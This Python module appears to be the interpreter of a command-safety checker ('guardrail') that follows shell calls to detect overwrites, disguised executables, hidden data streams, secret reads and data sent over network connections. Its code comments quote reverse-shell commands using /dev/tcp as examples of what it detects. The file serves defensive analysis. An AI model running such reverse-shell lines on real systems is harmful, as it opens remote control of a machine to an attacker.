"""Follows the calls of an action in order, so that a later call knows the files that an earlier one created, downloaded
or copied."""

from __future__ import annotations

import fnmatch
import re
from collections.abc import Sequence
from dataclasses import replace

from guardrail.catalogue.loader import Catalogue
from guardrail.circumstances import is_hidden_stream
from guardrail.facts import Facts
from guardrail.interpret.frame import MAX_CALLS, MAX_DEPTH, Frame, directory_of
from guardrail.interpret.general_rules import GeneralRules
from guardrail.interpret.git import Saved, resets_to_head
from guardrail.interpret.hidden_values import reads_secrets, without_values
from guardrail.interpret.inner import InnerActions
from guardrail.interpret.pipes import network_address, never_ends, prints_nothing, waits_for_typing
from guardrail.interpret.programs import CARES, SHELLS, WRITES, entry_of, shortened
from guardrail.interpret.rows import Rows
from guardrail.interpret.work import Part, Work
from guardrail.language.data import names
from guardrail.model import Call, Effect, Reading, Redirection, Target, Uncovered, Word
from guardrail.options import parse
from guardrail.paths.places import scope_of
from guardrail.paths.spelling import is_nowhere, located, seen_from
from guardrail.vocabulary import EffectKind, Language, ObjectKind, Place, Reversible, Scope

_TEXT_TOOLS = frozenset(("echo", "printf", "grep", "egrep", "fgrep", "rg", "ag", "sed", "awk", "git", "test", "["))
_PRINTERS_OF_TEXT = frozenset(("findstr", "find", "more", "cmd:type", "cmd:echo", "cmd:more", "ps:get-content", "sort"))
_BINARY_SUFFIXES = (".exe", ".dll", ".scr", ".sys", ".cpl", ".ocx")
_DUMPERS = frozenset(
    (
        *("mysqldump", "mariadb-dump", "pg_dump", "pg_dumpall", "mongodump", "sqlite3", "tar", "gzip", "zstd", "xz"),
        *("bzip2", "docker", "kubectl", "aws"),
    )
)
"""Programs whose output people redirect into a file to store it: an overwritten file is an earlier copy."""
_PATTERN_OF_NAME = re.compile(r"[\w.+-]*[?*\[][\w.+?*\[\]-]*")
_MAX_NAMES = 64
"""Maximum number of programs that a pattern in place of a name may match."""
_MAX_WORDS_BY_PATTERN = 64_000
"""Maximum number of words that are read for all programs that a pattern may match: longer lines only waste time."""
_OF_WINDOWS = frozenset((Language.CMD, Language.POWERSHELL))


class Interpreter(Part):
    """One pass over an action's calls."""

    def __init__(self, catalogue: Catalogue, facts: Facts) -> None:
        work = Work(catalogue, facts)
        super().__init__(work)
        self.inner = InnerActions(work, self)
        self.rows = Rows(work, self.inner.inline)
        self.general = GeneralRules(work, self.inner)

    def read(self, reading: Reading, frame: Frame) -> None:
        """Adds a reading, either of the whole action or of an action inside it."""
        carrier = frame.carrier
        directory = frame.directory.text if frame.directory is not None else None
        for effect in reading.effects:
            effect = self.targets.in_frame(effect, frame)
            self.findings.add(effect)
            if effect.kind in WRITES and effect.object is ObjectKind.PATH:
                self.add_write(effect, directory)
        for uncovered in reading.uncovered:
            self.findings.uncovered.append(replace(uncovered, span=carrier) if carrier else uncovered)
        for passage in reading.passages:
            self.findings.passages.append(replace(passage, span=carrier) if carrier else passage)
        for call in reading.calls:
            if len(self.findings.calls) >= MAX_CALLS:
                uncovered = Uncovered(carrier or call.span, "more calls than are followed", stopped=True)
                self.findings.uncovered.append(uncovered)
                break
            self.call(call, frame)

    def call(self, original: Call, frame: Frame) -> None:
        """Adds the effects of one call and of the actions inside it."""
        if frame.depth > MAX_DEPTH:
            reason = "nested actions, too deep to follow"
            self.findings.uncovered.append(Uncovered(frame.carrier or original.span, reason, stopped=True))
            return
        call = original
        if frame.depth:
            call = replace(
                call,
                span=frame.carrier or call.span,
                host=call.host or frame.host,
                elevated=call.elevated or frame.elevated,
                sure=call.sure and frame.sure,
                directory=call.directory or frame.directory,
            )
        self.findings.calls.append(call)
        git = self.memory.git
        saved, git.saved = (git.saved if call.chained else None), None
        first = len(self.findings.effects)
        if call.program != ":":
            self._program(call, frame, saved)
            if call.language in _OF_WINDOWS:
                self._hidden_streams(call)
        for redirection in call.redirections:
            self._redirection(redirection, call)
            if (url := network_address(redirection.target.text)) is not None:
                self._connection(url, call, self.findings.effects[first:])
        effects = self.findings.effects[first:]
        if reads_secrets(effects) and (program := entry_of(self.catalogue, call.program)) is not None:
            effects = self.findings.effects[first:] = without_values(parse(program, call), effects)
        self.memory.effects_of[id(original)] = (original, effects)
        self.memory.remember(call, effects)

    def _program(self, call: Call, frame: Frame, saved: Saved | None = None) -> None:
        if not call.program:
            self.general.computed(call, frame)
            return
        if self.memory.disguised:
            call = self._undisguised(call)
        program = entry_of(self.catalogue, call.program)
        if program is None:
            if not self._by_pattern(call, frame):
                self.general.unknown(call, frame)
            return
        self.findings.covered_calls += 1
        call = _in_named_directory(call)
        if call.path.startswith("!") and call.program in SHELLS:
            self.inner.interactive_shell(call)  # typed into the program of the previous line
            return
        parsed = parse(program, call)
        if parsed.without_effect():
            return
        if parsed.unlisted is not None:
            reason = f"the catalogue lacks {program.name} {shortened(parsed.unlisted)}"
            self.findings.uncovered.append(Uncovered(call.span, reason))
        if parsed.operands and parsed.level.subcommands is not None:
            self.general.by_verb([*parsed.path, *(word.text for word in parsed.operands)], call, Place.REMOTE)
        if call.program == "git":
            self.memory.git.remember(call, parsed)
        first = len(self.findings.effects)
        for level in parsed.levels:
            for row in level.effects:
                if parsed.holds(row.when):
                    self.rows.apply(row, parsed, call)
            if level.request is not None and parsed.holds(level.request.when):
                self.rows.request(level.request, parsed, call, frame)
        if saved is not None and saved == Saved(call.host, call.directory) and resets_to_head(call, parsed):
            self.findings.effects[first:] = [
                replace(effect, detail={**effect.detail, "saved": "before"})
                if effect.kind is EffectKind.DISCARD and effect.object is ObjectKind.PATH
                else effect
                for effect in self.findings.effects[first:]
            ]
        level = parsed.level
        harmless = not (level.effects or level.request)
        leaf = not (level.inner or level.subcommands)
        only_names = {call.program, " ".join((call.program, *parsed.path))} & names("names_only")
        if leaf and (harmless or not parsed.path) and not only_names:
            self.general.unstated(call, harmless)
        inners = [inner for level in parsed.levels for inner in level.inner if parsed.holds(inner.when)]
        for inner in inners:
            self.inner.follow(inner, parsed, call, frame)
        if all(inner.language == "manifest" for inner in inners) and call.program not in _TEXT_TOOLS:
            self.inner.shells_in_options(call, frame)
        if program.name in SHELLS and waits_for_typing(parsed):
            if self.memory.connection is not None:
                self.inner.network_shell(self.memory.connection, call)
            elif frame.depth:
                self.inner.interactive_shell(call)

    def effects_apart(self, reading: Reading, frame: Frame) -> Sequence[Effect]:
        """Returns the effects of a reading without adding them, as if nothing had happened before."""
        apart = Interpreter(self.catalogue, self.facts)
        apart.read(reading, frame)
        return apart.findings.effects

    def _hidden_streams(self, call: Call) -> None:
        """Adds a write for each alternate data stream: streams are used to hide something, whatever the program."""
        for word in call.words:
            if ":" in word.text[2:] and is_hidden_stream(word.text):
                target = self.targets.target(word, EffectKind.WRITE, ObjectKind.PATH, call)
                self.findings.add_generic(EffectKind.WRITE, ObjectKind.PATH, (target,), call, {}, True)

    def _undisguised(self, call: Call) -> Call:
        """Returns the call with the original program if an earlier call copied that program to this name."""
        path = located(call.path or call.program, self.facts, directory_of(call))
        name = self.memory.disguised.get(path) or self.memory.disguised.get(f"{path}.exe")
        if name is None:
            return call
        word = Word(call.path or call.program, call.span)
        target = self.targets.target(word, EffectKind.EXECUTE, ObjectKind.PATH, call)
        detail = {"code": "named_file", "disguised": name}
        self.findings.add_generic(EffectKind.EXECUTE, ObjectKind.PATH, (target,), call, detail, True)
        return replace(call, program=name)

    def _by_pattern(self, call: Call, frame: Frame) -> bool:
        """Follows a name that the shell completes from installed programs, such as `/bin/r?`, as each program that it
        may match."""
        if not call.path.startswith("/") or frame.depth > 1 or _PATTERN_OF_NAME.fullmatch(call.program) is None:
            return False
        names = [name for name in fnmatch.filter(self.catalogue, call.program) if ":" not in name]
        most = min(_MAX_NAMES, max(1, _MAX_WORDS_BY_PATTERN // (len(call.words) + 1)))
        if len(names) > most < _MAX_NAMES:
            self.findings.uncovered.append(Uncovered(call.span, "more programs than are followed", stopped=True))
        for name in names[:most]:
            self._program(replace(call, program=name), replace(frame, depth=frame.depth + 2))
        return bool(names)

    def _redirection(self, redirection: Redirection, call: Call) -> None:
        word = redirection.target
        if is_nowhere(word.text) or network_address(word.text) is not None:
            return
        found = self.rows.searched(word)
        if found[0] is not word:
            for place in found:  # `find … | while read f; do : > "$f"; done`
                self._redirection(Redirection(redirection.operator, place), call)
            return
        if redirection.operator == "<":
            kind = EffectKind.READ
        elif redirection.operator in (">>", "<>", "&>>"):
            kind = EffectKind.WRITE
        else:
            kind = EffectKind.OVERWRITE
        directory = directory_of(call)
        path = seen_from(directory, word.text) if directory is not None else ""
        if kind is EffectKind.OVERWRITE and "missing" in self.facts.path_states(path or word.text):
            kind = EffectKind.WRITE
        effect = Effect(
            kind=kind,
            object=ObjectKind.PATH,
            span=call.span,
            source="generic",
            targets=(self.targets.target(word, kind, ObjectKind.PATH, call),),
            reversible=Reversible.NO
            if kind is EffectKind.OVERWRITE and call.program not in _DUMPERS
            else Reversible.WITH_BACKUP
            if kind is EffectKind.OVERWRITE
            else Reversible.YES,
            sure=call.sure,
            elevated=call.elevated,
        )
        if kind is EffectKind.OVERWRITE and prints_nothing(call):
            reached = scope_of(word.text, self.facts, directory) if word.glob else Scope.ONE  # a loop over files
            effect = replace(effect, scope=reached, detail={"emptied": "yes"})
        if call.program in _PRINTERS_OF_TEXT and word.text.lower().endswith(_BINARY_SUFFIXES):
            effect = replace(effect, detail={"assembled": "yes"})
        self.findings.add(effect)
        if kind in WRITES:
            self.add_write(effect, directory_of(call), call)
            if never_ends(call):
                target = (Target(word.text, Place.SYSTEM),)
                self.findings.add_generic(EffectKind.DISRUPT, ObjectKind.DEVICE, target, call, {}, True)

    def _connection(self, url: str, call: Call, effects: Sequence[Effect]) -> None:
        """Adds the effects of a connection that the shell opens like a file: `bash -i >& /dev/tcp/host/port`."""
        if call.program in SHELLS:
            self.inner.network_shell(url, call)
            return
        if call.program == ":":
            self.memory.connection = url  # for later calls: `exec 5<>/dev/tcp/host/port; sh <&5 >&5`
        fed = self.memory.fed(call.stdin).care
        read = [target for effect in effects if effect.kind is EffectKind.READ for target in effect.targets]
        targets = tuple(target for target in read if target.sensitivity in CARES)
        if fed is not None:
            targets = (*targets, self.targets.fed(call, EffectKind.SEND))
        if targets:
            self.findings.add_generic(EffectKind.SEND, ObjectKind.PATH, targets, call, {"url": url}, True)


def _in_named_directory(call: Call) -> Call:
    """Returns the call in the directory that its own option names: `git -C /srv clean -fd`."""
    if call.program not in names("directory_first"):
        return call
    for option, value in zip(call.words, call.words[1:], strict=False):
        if not option.text.startswith("-"):
            break
        if option.text == "-C":
            text = value.text if call.directory is None else seen_from(call.directory.text, value.text) or value.text
            call = replace(call, directory=replace(value, text=text))
            break
    return call
